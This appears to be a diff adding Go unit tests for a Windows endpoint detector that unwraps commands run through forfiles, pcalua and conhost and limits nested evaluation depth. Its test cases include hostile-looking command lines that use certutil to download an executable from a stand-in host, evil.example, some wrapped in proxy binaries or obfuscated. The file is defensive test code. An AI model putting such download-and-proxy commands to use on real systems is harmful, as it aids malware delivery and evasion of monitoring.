@@ -0,0 +1,102 @@
+package main
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestCheckProxyExecution(t *testing.T) {
+	tests := []struct {
+		exe, cmdLine string
+		proxied      string
+		rule         string
+	}{
+		{`C:\Windows\System32\forfiles.exe`, `forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c certutil -urlcache -f http://evil.example/a.exe a.exe"`,
+			"cmd /c certutil -urlcache -f http://evil.example/a.exe a.exe", "cmd.exe"},
+		{`C:\Windows\System32\forfiles.exe`, `forfiles /m *.txt /c "certutil 0x2Durlcache -f http://evil.example/a.exe"`,
+			"certutil -urlcache -f http://evil.example/a.exe", "certutil.exe"},
+		{`C:\Windows\System32\pcalua.exe`, `pcalua.exe -a certutil.exe -c "-urlcache -f http://evil.example/a.exe"`,
+			"certutil.exe -urlcache -f http://evil.example/a.exe", "certutil.exe"},
+		{`C:\Windows\System32\conhost.exe`, `conhost.exe --headless --width 80 certutil.exe -urlcache -f http://evil.example/a.exe`,
+			"certutil.exe -urlcache -f http://evil.example/a.exe", "certutil.exe"},
+		{`C:\Windows\System32\conhost.exe`, `conhost.exe 0xffffffff -ForceV1`, "", ""},
+	}
+	for _, tt := range tests {
+		event := evaluate(tt.exe, tt.cmdLine)
+		if tt.proxied == "" {
+			if event.ProxiedCommand != nil {
+				t.Errorf("%s: proxied command %+v", tt.cmdLine, event.ProxiedCommand)
+			}
+			continue
+		}
+		proxied := event.ProxiedCommand
+		if proxied == nil || proxied.CommandLine != tt.proxied || proxied.Rule != tt.rule {
+			t.Errorf("%s: proxied command %+v, want %q flagged by %s", tt.cmdLine, proxied, tt.proxied, tt.rule)
+			continue
+		}
+		if want := "proxied via " + proxied.Proxy + ": "; !strings.Contains(event.Reason, want) || !hasIOC(&event, "evil.example") {
+			t.Errorf("%s: reason %q, IOCs %+v; want the proxied detection merged", tt.cmdLine, event.Reason, event.IOCs)
+		}
+	}
+}
+
+func TestProxyNestingDepth(t *testing.T) {
+	const payload = "certutil.exe -urlcache -f http://evil.example/a.exe"
+	for levels := 1; levels <= maxNestingDepth+2; levels++ {
+		cmdLine := strings.Repeat("conhost.exe --headless ", levels) + payload
+		event := evaluate(`C:\Windows\System32\conhost.exe`, cmdLine)
+		// The outer conhost is the event itself, so the payload is nested
+		// as many levels deep as there are conhosts
+		reached := strings.Contains(event.Reason, "Suspicious use of certutil.exe")
+		if want := levels <= maxNestingDepth; reached != want {
+			t.Errorf("%d levels: payload evaluated %v, want %v", levels, reached, want)
+		}
+	}
+}
+
+func TestEvaluateNestedEventBounds(t *testing.T) {
+	// Each command line embeds the next; a cycle makes it embed itself or
+	// one further up
+	var calls int
+	var embeds map[string]string
+	saved := evaluateEmbedded
+	t.Cleanup(func() { evaluateEmbedded = saved })
+	evaluateEmbedded = func(event ProcessEvent, live bool) ProcessEvent {
+		calls++
+		if calls > 100 {
+			t.Fatal("nested evaluation doesn't end")
+		}
+		if next, ok := embeds[event.CommandLine]; ok {
+			evaluateNestedEvent(next, &event)
+		}
+		return event
+	}
+
+	tests := []struct {
+		name   string
+		embeds map[string]string
+		calls  int
+	}{
+		{"self", map[string]string{"p.exe": "a.exe x", "a.exe x": "a.exe x"}, 1},
+		{"self, quoted and cased differently", map[string]string{"p.exe": "a.exe x", "a.exe x": `"A.EXE"  X`}, 1},
+		{"back to the parent", map[string]string{"p.exe": "a.exe", "a.exe": "p.exe"}, 1},
+		{"cycle", map[string]string{"p.exe": "a.exe", "a.exe": "b.exe", "b.exe": "a.exe"}, 2},
+		{"endless", map[string]string{"p.exe": "a.exe", "a.exe": "b.exe", "b.exe": "c.exe", "c.exe": "d.exe", "d.exe": "e.exe"}, maxNestingDepth},
+	}
+	for _, tt := range tests {
+		calls, embeds = 0, tt.embeds
+		evaluateNestedEvent(embeds["p.exe"], &ProcessEvent{CommandLine: "p.exe"})
+		if calls != tt.calls {
+			t.Errorf("%s: %d nested evaluations, want %d", tt.name, calls, tt.calls)
+		}
+	}
+
+	// Nothing to evaluate, or already at the depth limit
+	calls = 0
+	if _, ok := evaluateNestedEvent("  ", &ProcessEvent{CommandLine: "a.exe"}); ok {
+		t.Error("an empty command line was evaluated")
+	}
+	if _, ok := evaluateNestedEvent("b.exe", &ProcessEvent{CommandLine: "a.exe", nestingDepth: maxNestingDepth}); ok || calls != 0 {
+		t.Error("a command line beyond the depth limit was evaluated")
+	}
+}